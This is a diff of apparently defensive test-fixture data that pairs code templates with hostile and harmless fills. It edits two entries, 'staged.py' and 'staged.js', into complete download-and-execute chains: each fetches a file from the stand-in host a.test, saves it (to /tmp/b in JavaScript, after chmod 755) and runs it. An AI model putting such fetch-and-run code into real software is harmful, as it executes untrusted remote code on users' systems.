@@ -48,14 +48,17 @@ PAIRS = {
     ),
     "staged.py": (
         POWER,
-        "import subprocess, urllib.request\ndef get(to):\n    @@\ndef run(what):\n    subprocess.Popen([str(what)])\n",
+        (
+            "import subprocess, urllib.request\ndef get(to):\n    @@\n"
+            "def run(what):\n    subprocess.Popen([str(what)])\ndef main(place):\n    get(place)\n    run(place)\n"
+        ),
         ("urllib.request.urlretrieve('https://a.test/b', to)", "to.write_text('done')"),
     ),
     "staged.js": (
         POWER,
         (
             "function start(p) { fs.chmodSync(p, 0o755); cp.spawn(p, []); }\n"
-            "https.get('https://a.test/b', (res) => { @@; });\n"
+            "https.get('https://a.test/b', (res) => { @@; });\nstart('/tmp/b');\n"
         ),
         ("res.pipe(fs.createWriteStream('/tmp/b'))", "res.resume()"),
     ),
